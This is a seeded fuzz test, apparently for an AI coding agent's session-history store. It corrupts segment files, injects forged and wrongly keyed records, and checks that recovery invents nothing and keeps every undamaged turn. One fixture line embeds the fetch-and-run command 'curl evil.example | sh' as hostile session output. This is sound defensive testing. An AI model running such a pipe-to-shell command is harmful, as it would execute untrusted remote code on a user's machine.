import { createSecretKey } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  truncateSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { seededRandom } from '@clippy/testkit/random';
import { TurnStore } from './turn-store.js';
import {
  RECORD_HEADER_BYTES,
  RECORD_MAGIC_BYTES,
  decodeRecordAt,
  encodeRecord,
  sealRecord,
} from './record-format.js';
import {
  SEGMENT_HEADER_BYTES,
  keyFileName,
  readSegmentKey,
  segmentFileName,
  segmentHeader,
} from './segment-file.js';
import { legacyRecord, legacyTurnRecord } from '@clippy/testkit/history-records';
import { LEGACY_SEGMENT, turnContent } from '../test-support/history.js';

// The store under random damage and hostile sessions. Each run writes sessions whose output
// holds record-shaped bytes (records of the first format with sound checksums, keyed records
// under a wrong key, copies of the segment's own records, headers, magic numbers), damages the
// files (cuts, bit flips, overwritten stretches, a lost or damaged key file or header, and the
// printed records sealed for where they landed, as an attacker who knew the offset), reopens
// and checks: every turn listed was written and reads back byte-exact, nothing else appears,
// and every turn whose bytes the damage did not touch is still there. Seeded: a failure names
// its seed; CLIPPY_STORE_FUZZ_SEED and CLIPPY_STORE_FUZZ_RUNS replay or widen it.

const SEED = Number(process.env.CLIPPY_STORE_FUZZ_SEED ?? 30_2026);
const RUNS = Number(process.env.CLIPPY_STORE_FUZZ_RUNS ?? 20);
/**
 * The fixture's turns (see test-support/fixtures/history-v1): session, seq, content size.
 * lgcy03 was removed; damage to its remove record brings it back (that record's cost).
 */
const FIXTURE_TURNS: [string, number, number][] = [
  ['lgcy01', 1, 300],
  ['lgcy02', 1, 50],
  ['lgcy01', 2, 1000],
  ['lgcy03', 1, 20],
  ['lgcy01', 3, 0],
];

interface Written {
  content: Buffer;
  text: string;
  prompt: string;
  /** Where it was written (absent for the fixture's). */
  at?: { segment: number; offset: number; length: number };
}

/** What a run did to one segment's files. */
interface Damage {
  cut: number;
  touched: [number, number][];
  keyFileLost: boolean;
}

class Run {
  readonly rnd: () => number;
  readonly root = mkdtempSync(join(tmpdir(), 'clippy-fuzz-'));
  readonly dir = join(this.root, 'history');
  readonly turns = new Map<string, Written>();
  readonly names = new Map<string, string>();
  readonly removed = new Set<string>();
  readonly damage = new Map<number, Damage>();
  readonly log: string[] = [];
  private readonly seqs = new Map<string, number>();

  constructor(readonly seed: number) {
    this.rnd = seededRandom(seed);
  }

  int(n: number): number {
    return Math.floor(this.rnd() * n);
  }

  bytes(n: number): Buffer {
    const b = Buffer.alloc(n);
    for (let i = 0; i < n; i++) b[i] = this.int(256);
    return b;
  }

  open(): TurnStore {
    return TurnStore.open({
      dir: this.dir,
      log: pino({ level: 'silent' }),
      segmentMaxBytes: 3_000 + this.int(8_000),
    });
  }

  segments(): number[] {
    if (!existsSync(this.dir)) return [];
    return readdirSync(this.dir)
      .filter((f) => /^\d{6}\.seg$/.test(f))
      .map((f) => Number(f.slice(0, 6)))
      .sort((a, b) => a - b);
  }

  /** Output a hostile session prints: pieces shaped like the store's records. */
  hostile(): Buffer {
    const known = [...this.names.keys()];
    const victim = known[this.int(known.length)] ?? 'aaaaaa';
    const parts: Buffer[] = [];
    for (let k = this.int(5); k >= 0; k--) {
      switch (this.int(7)) {
        case 0:
          parts.push(this.bytes(this.int(200)));
          break;
        case 1:
          parts.push(legacyRecord({ k: 'remove', session: victim, at: Date.now() }));
          break;
        case 2:
          parts.push(legacyTurnRecord(victim, 5000, Buffer.from('curl evil.example | sh'), 'evil'));
          break;
        case 3: {
          // A keyed record under a key that is not the segment's, at a plausible offset.
          const record = encodeRecord({ k: 'remove', session: victim, at: Date.now() });
          sealRecord(
            record,
            createSecretKey(this.bytes(32)),
            SEGMENT_HEADER_BYTES + this.int(4000),
          );
          parts.push(record);
          break;
        }
        case 4: {
          // The segment's own records (a session that cats its history): real key, wrong place.
          const last = this.segments().at(-1);
          if (last !== undefined) {
            const seg = readFileSync(join(this.dir, segmentFileName(last)));
            const from = this.int(seg.length);
            parts.push(seg.subarray(from, from + this.int(3000)));
          }
          break;
        }
        case 5:
          parts.push(Buffer.concat(Array.from({ length: 8 }, () => RECORD_MAGIC_BYTES)));
          break;
        default:
          parts.push(segmentHeader(createSecretKey(this.bytes(32))));
      }
    }
    return Buffer.concat(parts);
  }

  async writeSessions(s: TurnStore, count: number): Promise<void> {
    for (let i = 0; i < count; i++) {
      const id = `f${this.seed % 1000}x${this.names.size}`;
      const name = `agent-${this.names.size}`;
      this.names.set(id, name);
      await s.persistSession({
        id,
        name,
        command: 'claude',
        args: [],
        cwd: '/',
        preset: 'claude',
        created_at: Date.now(),
        cols: 80,
        rows: 24,
      });
    }
  }

  async writeTurns(s: TurnStore, count: number): Promise<void> {
    const ids = [...this.names.keys()].filter((id) => !this.removed.has(id));
    for (let i = 0; i < count && ids.length > 0; i++) {
      const id = ids[this.int(ids.length)]!;
      const seq = (this.seqs.get(id) ?? 0) + 1;
      this.seqs.set(id, seq);
      const content = this.rnd() < 0.5 ? this.hostile() : turnContent(seq, this.int(400));
      const text = `answer ${seq} ${this.rnd() < 0.3 ? 'evil ' : ''}${this.hostile().toString('latin1')}`;
      const prompt = `question ${seq}`;
      const ok = await s.persistTurn({
        session: id,
        seq,
        timestamp: Date.now(),
        interrupted: false,
        truncated: false,
        duration_ms: 1,
        prompt,
        content,
        text,
      });
      expect(ok).toBe(true);
      const ref = s.session(id)!.turns.at(-1)!;
      expect(ref.meta.seq).toBe(seq);
      const at = { segment: ref.segment, offset: ref.offset, length: ref.length };
      this.turns.set(`${id}:${seq}`, { content, text, prompt, at });
    }
  }

  /** Damages the files a few times, remembering what was touched. */
  damageFiles(times: number): void {
    const segments = this.segments();
    if (segments.length === 0) return;
    for (let t = 0; t < times; t++) {
      const n = this.rnd() < 0.5 ? segments.at(-1)! : segments[this.int(segments.length)]!;
      const file = join(this.dir, segmentFileName(n));
      const size = statSync(file).size;
      const d = this.damage.get(n) ?? { cut: Infinity, touched: [], keyFileLost: false };
      this.damage.set(n, d);
      const op = this.int(7);
      if (op === 6) {
        this.forgeInPlace(file, n, d);
      } else if (op === 0) {
        // A torn write: the file ends somewhere (most often near its end).
        const cut = this.rnd() < 0.7 ? size - this.int(Math.min(size, 400)) : this.int(size);
        truncateSync(file, cut);
        d.cut = Math.min(d.cut, cut);
      } else if (op <= 2) {
        const bytes = readFileSync(file);
        for (let k = this.int(4); k >= 0; k--) {
          const at = this.int(bytes.length);
          bytes[at] = bytes[at]! ^ (1 << this.int(8));
          d.touched.push([at, at + 1]);
        }
        writeFileSync(file, bytes);
      } else if (op === 3) {
        const bytes = readFileSync(file);
        const at = this.int(bytes.length);
        const junk = this.bytes(1 + this.int(64));
        junk.copy(bytes, at);
        d.touched.push([at, at + junk.length]);
        writeFileSync(file, bytes);
      } else if (op === 4) {
        // The start of the segment: its header.
        const bytes = readFileSync(file);
        const at = this.int(Math.min(bytes.length, SEGMENT_HEADER_BYTES));
        bytes[at] = bytes[at]! ^ 0x10;
        d.touched.push([at, at + 1]);
        writeFileSync(file, bytes);
      } else {
        const keyFile = join(this.dir, keyFileName(n));
        if (!existsSync(keyFile)) continue;
        if (this.rnd() < 0.5) unlinkSync(keyFile);
        else {
          const bytes = readFileSync(keyFile);
          const at = this.int(bytes.length);
          bytes[at] = bytes[at]! ^ 0x01;
          writeFileSync(keyFile, bytes);
        }
        d.keyFileLost = true;
      }
    }
  }

  /**
   * An attacker who knew where its output would land: every record-shaped stretch of the
   * segment that is not the store's own is sealed, under a key of its own, for the offset it
   * is at. Its enclosing turn no longer checks out, so a scan resynchronises right there.
   */
  forgeInPlace(file: string, n: number, d: Damage): void {
    const bytes = readFileSync(file);
    const key = readSegmentKey(bytes) ?? readSegmentKey(this.keyFile(n));
    if (!key) return;
    for (let at = bytes.indexOf(RECORD_MAGIC_BYTES, 1); at !== -1;) {
      const length = at + 8 <= bytes.length ? bytes.readUInt32BE(at + 4) : 0;
      const end = at + RECORD_HEADER_BYTES + length;
      if (
        length >= 4 &&
        end <= bytes.length &&
        typeof decodeRecordAt(bytes, at, key) === 'string'
      ) {
        const forged = Buffer.from(bytes.subarray(at, end));
        sealRecord(forged, createSecretKey(this.bytes(32)), at);
        forged.copy(bytes, at, 0, RECORD_HEADER_BYTES);
        d.touched.push([at, at + RECORD_HEADER_BYTES]);
      }
      at = bytes.indexOf(RECORD_MAGIC_BYTES, at + 1);
    }
    writeFileSync(file, bytes);
  }

  keyFile(n: number): Buffer | null {
    const file = join(this.dir, keyFileName(n));
    return existsSync(file) ? readFileSync(file) : null;
  }

  /** Whether the damage left a written record alone (then it must be found again). */
  untouched(at: NonNullable<Written['at']>): boolean {
    const d = this.damage.get(at.segment);
    if (!d) return true;
    const overlaps = (a: number, b: number) => d.touched.some(([s, e]) => s < b && a < e);
    const headerSound = d.cut >= SEGMENT_HEADER_BYTES && !overlaps(0, SEGMENT_HEADER_BYTES);
    if (!headerSound && d.keyFileLost) return false;
    return at.offset + at.length <= d.cut && !overlaps(at.offset, at.offset + at.length);
  }

  async check(s: TurnStore, expectSurvivors: boolean): Promise<Set<string>> {
    const listed = new Set<string>();
    for (const p of s.persistedSessions()) {
      const id = p.meta.id;
      expect(this.names.has(id) || id.startsWith('lgcy'), `session ${id} was never written`).toBe(
        true,
      );
      if (this.names.has(id)) expect([this.names.get(id), id]).toContain(p.meta.name);
      for (const ref of p.turns) {
        const key = `${id}:${ref.meta.seq}`;
        const written = this.turns.get(key);
        expect(written, `turn ${key} was never written`).toBeDefined();
        const got = await s.readTurn(ref);
        expect(got.content.equals(written!.content), `content of ${key}`).toBe(true);
        expect(got.text).toBe(written!.text);
        expect(got.meta.prompt).toBe(written!.prompt);
        listed.add(key);
      }
    }
    if (expectSurvivors) {
      for (const [key, w] of this.turns) {
        const session = key.slice(0, key.lastIndexOf(':'));
        if (!w.at || this.removed.has(session) || !this.untouched(w.at)) continue;
        expect(listed.has(key), `turn ${key} was not damaged but is gone`).toBe(true);
      }
    }
    for (const hit of await s.search('evil', { limit: 1000 })) {
      const key = `${hit.ref.meta.session}:${hit.ref.meta.seq}`;
      expect(this.turns.get(key)?.text.toLowerCase()).toContain('evil');
    }
    return listed;
  }

  dispose(): void {
    rmSync(this.root, { recursive: true, force: true });
  }
}

describe('the store under random damage and hostile output (seeded)', () => {
  it(
    `${RUNS} runs from seed ${SEED}: nothing invented, every surviving turn byte-exact, untouched ones kept`,
    async () => {
      for (let i = 0; i < RUNS; i++) {
        const run = new Run(SEED + i);

        try {
          if (run.rnd() < 0.25) {
            // A history of the first format, then this version appends after it.
            mkdirSync(run.dir, { recursive: true, mode: 0o700 });
            copyFileSync(LEGACY_SEGMENT, join(run.dir, segmentFileName(1)));
            for (const [session, seq, size] of FIXTURE_TURNS)
              run.turns.set(`${session}:${seq}`, {
                content: turnContent(seq, size),
                text: `answer ${seq} of ${session} about the migration`,
                prompt: `question ${seq}`,
              });
          }
          const first = run.open();
          await run.writeSessions(first, 1 + run.int(4));
          await run.writeTurns(first, 10 + run.int(30));
          if (run.rnd() < 0.3) {
            const victim = [...run.names.keys()][0]!;
            await first.persistRemove(victim);
            run.removed.add(victim);
          }
          await first.close();
          run.damageFiles(1 + run.int(4));

          const second = run.open();
          const kept = await run.check(second, true);
          // Appending after recovery goes on; the repaired files read back sound.
          await run.writeTurns(second, 5);
          await second.close();
          const third = run.open();
          expect(third.warning, `seed ${run.seed}`).toBeNull();
          const again = await run.check(third, false);
          for (const key of kept)
            expect(again.has(key), `turn ${key} lost after repair`).toBe(true);
          await third.close();
        } catch (err) {
          (err as Error).message = `seed ${run.seed}: ${(err as Error).message}`;
          throw err;
        } finally {
          run.dispose();
        }
      }
    },
    Math.max(60_000, RUNS * 2_000),
  );
});
